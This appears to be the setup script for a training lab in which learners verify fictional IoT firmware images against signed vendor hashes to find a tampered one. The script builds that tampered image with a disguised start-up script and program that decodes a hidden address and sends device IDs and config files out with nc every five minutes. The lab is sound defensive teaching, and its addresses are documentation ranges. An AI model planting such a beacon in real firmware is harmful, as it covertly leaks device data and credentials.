#!/bin/bash
# firmware-supply-chain — setup. Runs as sandbox root before the learner attaches (labs/README.md,
# "Runtime contract"). The files/ overlay is already in place under /srv/firmware and /home/learner.
#
# Builds one per-session firmware supply-chain incident for a fictional city's river and street IoT:
#   - /srv/firmware/incoming/: six firmware images (gzip'd tar "rootfs" archives) from four vendors,
#     delivered through a system integrator's file server, with the integrator's own SHA256SUMS;
#   - /srv/firmware/vendors/<vendor>/SHA256SUMS: each vendor's published list, signed
#     (SHA256SUMS.sig, ECDSA P-256) when openssl is available, with the vendors' public keys in
#     /srv/firmware/keys/ — read-only for the learner;
#   - /srv/firmware/deployed/: the versions running today (known good), for comparison;
#   - one image (TAMPERED_IMAGE) was altered on the integrator's server: an extra start-up script
#     and an extra program (ADDED_FILE) that beacons device data to BEACON_ADDR:BEACON_PORT. The
#     integrator's SHA256SUMS was regenerated after the change, so it matches; the vendor's does not;
#   - the rollout plan for tonight (/srv/firmware/deploy/rollout.csv) and the integrator's notice.
# Nothing runs in the background. Every address is from the documentation ranges (RFC 5737).
# Per-session variables go to fd 3 as NAME=value lines; nothing here may write them elsewhere.
set -euo pipefail
{ : >&3; } 2>/dev/null || { echo "setup.sh: fd 3 is not open; run by hand as: bash setup.sh 3>vars.txt" >&2; exit 2; }

FW=/srv/firmware
LUID=${LAB_LEARNER_UID:-1000}
LGID=${LAB_LEARNER_GID:-1000}
LHOME=${LAB_LEARNER_HOME:-/home/learner}
RANDOM=${LAB_SEED:-$(( $$ ^ $(date +%s) ))}
export TZ=UTC LC_ALL=C
T0=$(date +%s)
JST=32400

var() { printf '%s=%s\n' "$1" "$2" >&3; }
ts() { printf -v R '%(%Y-%m-%dT%H:%M:%S)T+09:00' $(( $1 + JST )); }
day() { printf -v R '%(%Y-%m-%d)T' $(( $1 + JST )); }
pick() { local a=("$@"); R=${a[RANDOM % ${#a[@]}]}; }
# A documentation-range address, never one given as an argument.
doc_ip() {
  local prefixes=(192.0.2 198.51.100 203.0.113) ip
  while :; do ip=${prefixes[RANDOM % 3]}.$(( RANDOM % 250 + 3 )); case " $* " in *" $ip "*) continue ;; esac; R=$ip; return; done
}
WORK=$(mktemp -d)
trap 'rm -rf "$WORK"' EXIT

# ---------------------------------------------------------------- vendors, models, versions
#            vendor     model      name for people         app daemon   kind
IMAGES=(
  "hoshimi   wls300     WLS-300"
  "hoshimi   wls300lte  WLS-300-LTE"
  "aozora    avcam210   AV-CAM-210"
  "aozora    avcam220   AV-CAM-220"
  "tsurugi   rg20       RG-20"
  "minatolux sl8        SL-8"
)
declare -A VNAME=([hoshimi]="Hoshimi Sensing" [aozora]="Aozora Vision" [tsurugi]="Tsurugi Telemetry" [minatolux]="Minato Lux")
declare -A APP=([hoshimi]=levelmond [aozora]=camd [tsurugi]=raind [minatolux]=lightctld)
declare -A GROUP=([wls300]=river-level-north [wls300lte]=river-level-south [avcam210]=flood-camera-bridges [avcam220]=flood-camera-underpass [rg20]=rain-gauge-city [sl8]=streetlight-main-st)
declare -A COUNT=([wls300]=14 [wls300lte]=9 [avcam210]=11 [avcam220]=6 [rg20]=8 [sl8]=40)
ver() { R="$(( $1 + RANDOM % 3 )).$(( RANDOM % 10 )).$(( RANDOM % 10 ))"; }

rfile() { # path: deterministic pseudo-random bytes (a stand-in for a shared library)
  local n=$(( 1536 + RANDOM % 1024 )) i s=''
  for (( i = 0; i < n; i++ )); do printf -v o '\\%03o' $(( RANDOM % 256 )); s+=$o; done
  printf "$s" >"$1"
}
build_rootfs() { # dir vendor model label version build-date
  local d=$1 v=$2 m=$3 label=$4 version=$5 bd=$6 app=${APP[$2]}
  mkdir -p "$d/etc/init.d" "$d/usr/bin" "$d/usr/lib" "$d/usr/sbin"
  printf '%s %s firmware %s (build %s)\n' "${VNAME[$v]}" "$label" "$version" "$bd" >"$d/etc/version"
  cat >"$d/etc/init.d/rcS" <<'EOF'
#!/bin/sh
# Start every S??* script in /etc/init.d in order.
for s in /etc/init.d/S??*; do [ -x "$s" ] && "$s" start; done
EOF
  cat >"$d/etc/init.d/S10network" <<'EOF'
#!/bin/sh
# Bring up the uplink (closed M2M APN / field LAN) with the settings in /etc/network.conf.
. /etc/network.conf
ip link set "$IFACE" up && ip addr add "$ADDR" dev "$IFACE" && ip route add default via "$GW"
EOF
  cat >"$d/etc/init.d/S20ntp" <<'EOF'
#!/bin/sh
# Keep the clock in sync with the city's NTP server.
ntpd -p 10.40.0.1 -q
EOF
  cat >"$d/etc/init.d/S50$app" <<EOF
#!/bin/sh
# Start the measurement daemon.
/usr/bin/$app -c /etc/$app.conf &
EOF
  printf 'IFACE=eth0\nADDR=dhcp\nGW=10.40.0.1\n' >"$d/etc/network.conf"
  local salt; printf -v salt '%04x%04x' $RANDOM $RANDOM
  cat >"$d/etc/$app.conf" <<EOF
# $label settings
report_to = https://10.40.0.10/iot/ingest       # the city's IoT platform
interval  = 60
update_check = https://support.$v.example/fw/   # vendor update service (manual approval)
device_user = maint
device_pass_hash = \$6\$$salt\$xxxxxxxxxxxxxxxx
EOF
  cat >"$d/usr/bin/$app" <<EOF
#!/bin/sh
# $app: reads the sensor and posts the value to report_to every interval seconds.
conf=\${2:-/etc/$app.conf}
while :; do
  v=\$(cat /sys/class/sensor/value 2>/dev/null || echo 0)
  wget -q -O /dev/null --post-data "model=$label&value=\$v" "\$(sed -n 's/^report_to *= *\\([^ ]*\\).*/\\1/p' "\$conf")"
  sleep "\$(sed -n 's/^interval *= *\\([0-9]*\\).*/\\1/p' "\$conf")"
done
EOF
  rfile "$d/usr/lib/lib$v.so.1"
  case $m in avcam*) mkdir -p "$d/www"; printf '<!doctype html><title>%s</title><h1>%s</h1>\n' "$label" "$label" >"$d/www/index.html" ;; esac
  chmod 755 "$d/etc/init.d/"* "$d/usr/bin/$app"
}
pack() { # dir out mtime: a reproducible gzip'd tar (the "firmware image")
  tar -C "$1" --sort=name --mtime="@$3" --owner=0 --group=0 --numeric-owner -cf - . | gzip -n -9 >"$2"
}

TAMP=$(( RANDOM % ${#IMAGES[@]} ))
doc_ip; BEACON_ADDR=$R
pick 443 8443 8080 4443 9443; BEACON_PORT=$R
pick ntpupd fwcheckd syshelper tmsyncd logfwd diagd; BIN=$R
pick usr/sbin usr/lib/.cache usr/libexec usr/share/.sys; ADDED_FILE=$R/$BIN
pick 45 88 95 99; INIT=etc/init.d/S$R$BIN

rm -rf "$FW/incoming" "$FW/vendors" "$FW/keys" "$FW/deployed" "$FW/quarantine" "$FW/deploy"
mkdir -p "$FW/incoming" "$FW/vendors" "$FW/keys" "$FW/deployed" "$FW/quarantine" "$FW/deploy"
REL=$(( T0 - (4 + RANDOM % 5) * 86400 ))    # vendors released the new versions 4–8 days ago
DLV=$(( T0 - (1 + RANDOM % 2) * 86400 - RANDOM % 20000 )) # delivered 1–2 days ago
OLD=$(( T0 - (90 + RANDOM % 60) * 86400 ))   # today's versions are a few months old
day "$REL"; RELD=$R
rows=()
for i in "${!IMAGES[@]}"; do
  read -r v m label <<<"${IMAGES[i]}"
  ver 2; newv=$R
  oldv="$(( ${newv%%.*} - 1 )).$(( RANDOM % 10 )).$(( RANDOM % 10 ))"
  name=${v}_${m}_v$newv.bin
  oname=${v}_${m}_v$oldv.bin
  day "$OLD"; build_rootfs "$WORK/old$i" "$v" "$m" "$label" "$oldv" "$R"; pack "$WORK/old$i" "$FW/deployed/$oname" "$OLD"
  build_rootfs "$WORK/new$i" "$v" "$m" "$label" "$newv" "$RELD"; pack "$WORK/new$i" "$WORK/$name" "$REL"
  # The vendor's published list: this release and the one before.
  printf '%s  %s\n' "$(sha256sum <"$FW/deployed/$oname" | cut -d' ' -f1)" "$oname" >>"$WORK/list.$v"
  printf '%s  %s\n' "$(sha256sum <"$WORK/$name" | cut -d' ' -f1)" "$name" >>"$WORK/list.$v"
  if [ "$i" = "$TAMP" ]; then
    TAMPERED_IMAGE=$name
    d=$WORK/new$i
    mkdir -p "$d/${ADDED_FILE%/*}"
    B64=$(printf '%s' "$BEACON_ADDR" | base64)
    cat >"$d/$ADDED_FILE" <<EOF
#!/bin/sh
# $BIN: keeps device time and diagnostics in sync
h=\$(echo $B64 | base64 -d)
p=$BEACON_PORT
id=\$(cat /sys/class/net/eth0/address 2>/dev/null)
while :; do
  {
    echo "ID \$id \$(cat /etc/version)"
    cat /etc/*.conf /etc/network.conf 2>/dev/null
  } | nc -w 10 "\$h" "\$p" >/dev/null 2>&1
  sleep 300
done
EOF
    cat >"$d/$INIT" <<EOF
#!/bin/sh
# Start the time/diagnostics helper.
/$ADDED_FILE >/dev/null 2>&1 &
EOF
    chmod 755 "$d/$ADDED_FILE" "$d/$INIT"
    pack "$d" "$FW/incoming/$name" "$REL"
    TAMPERED_SHA256=$(sha256sum <"$FW/incoming/$name" | cut -d' ' -f1)
  else
    cp "$WORK/$name" "$FW/incoming/$name"
  fi
  touch -d "@$DLV" "$FW/incoming/$name"
  touch -d "@$OLD" "$FW/deployed/$oname"
  rows+=("${GROUP[$m]},${COUNT[$m]},$label,$name,scheduled")
done

# Published lists per vendor, signed when openssl is here (keys made now; private keys discarded).
SIGNED=no
command -v openssl >/dev/null 2>&1 && SIGNED=yes
for v in hoshimi aozora tsurugi minatolux; do
  mkdir -p "$FW/vendors/$v"
  { echo "# ${VNAME[$v]} (fictional) — published SHA-256 of firmware images, https://support.$v.example/fw/"
    sort -k2 "$WORK/list.$v"; } >"$FW/vendors/$v/SHA256SUMS"
  if [ "$SIGNED" = yes ]; then
    openssl genpkey -algorithm EC -pkeyopt ec_paramgen_curve:P-256 -out "$WORK/$v.key" 2>/dev/null
    openssl pkey -in "$WORK/$v.key" -pubout -out "$FW/keys/$v.pem" 2>/dev/null
    openssl dgst -sha256 -sign "$WORK/$v.key" -out "$FW/vendors/$v/SHA256SUMS.sig" "$FW/vendors/$v/SHA256SUMS"
    rm -f "$WORK/$v.key"
  fi
done
# The integrator's list, regenerated on its server after the image was altered: it matches everything.
( cd "$FW/incoming" && sha256sum -- *.bin >SHA256SUMS )
touch -d "@$DLV" "$FW/incoming/SHA256SUMS"

ts "$DLV"; DLV_AT=$R
day "$T0"; TODAY=$R
cat >"$FW/incoming/DELIVERY.txt" <<EOF
納品書 / Delivery note                         $DLV_AT
株式会社ミナト・システムインテグレーション（架空） → 北湊市 建設部 河川・道路管理課

件名: 河川・道路 IoT 機器 ファームウェア更新（脆弱性修正版）
Subject: firmware updates (security fixes) for the river and street IoT devices

$(cd "$FW/incoming" && ls -1 *.bin | sed 's/^/  /')

同梱の SHA256SUMS で破損がないことをご確認ください。
Check the images against the enclosed SHA256SUMS for corruption.
EOF

{
  echo "# Rollout plan for $TODAY 22:00 JST (fwpush over the closed M2M network). status: scheduled | hold"
  echo "group,devices,model,image,status"
  printf '%s\n' "${rows[@]}"
} >"$FW/deploy/rollout.csv"

mkdir -p "$LHOME/inbox"
ts $(( T0 - 1800 - RANDOM % 1800 )); NOTICE_AT=$R
day $(( DLV - 86400 )); FROM=$R
day $(( T0 - 43200 )); TO=$R
cat >"$LHOME/inbox/integrator-notice.txt" <<EOF
From: security@minato-si.example
To: kasen-doro@city.kita-minato.example, it-security@city.kita-minato.example
Date: $NOTICE_AT
Subject: 【重要】納品用ファイルサーバへの不正アクセスについて / Unauthorised access to our delivery file server

(English below)
北湊市 建設部 河川・道路管理課 御中

株式会社ミナト・システムインテグレーション（架空）です。当社の納品用ファイルサーバに、$FROM から $TO の
間に第三者による不正アクセスがあった痕跡を確認しました。現在、外部の専門家と調査中です。
この期間に当サーバからお渡しした納品物が改ざんされている可能性を否定できません。
お手数ですが、導入前に各メーカーが公開しているハッシュ値等で真正性をご確認いただけますようお願いいたします。

To the River and Road Management Division, Kita-Minato City:

We have found traces of unauthorised access to our delivery file server between $FROM and $TO and are
investigating with outside experts. We cannot rule out that deliverables handed over from that server in this period
were altered. Before deploying them, please verify their authenticity against the values each manufacturer publishes.

-- Minato System Integration Co., Ltd. (fictional), Security Office
EOF

# ---------------------------------------------------------------- hand over
chown -R "$LUID:$LGID" "$FW" "$LHOME" 2>/dev/null || echo "setup: chown to $LUID:$LGID not possible here" >&2
chown -R 0:0 "$FW/vendors" "$FW/keys" && chmod -R go-w,a+rX "$FW/vendors" "$FW/keys"
chmod 755 /srv

var TAMPERED_IMAGE "$TAMPERED_IMAGE"
var TAMPERED_SHA256 "$TAMPERED_SHA256"
var ADDED_FILE "$ADDED_FILE"
var ADDED_INIT "$INIT"
var BEACON_ADDR "$BEACON_ADDR"
var BEACON_PORT "$BEACON_PORT"
var IMAGE_COUNT "${#IMAGES[@]}"
var SIGNED "$SIGNED"
echo "setup: ready (tampered: $TAMPERED_IMAGE)" >&2
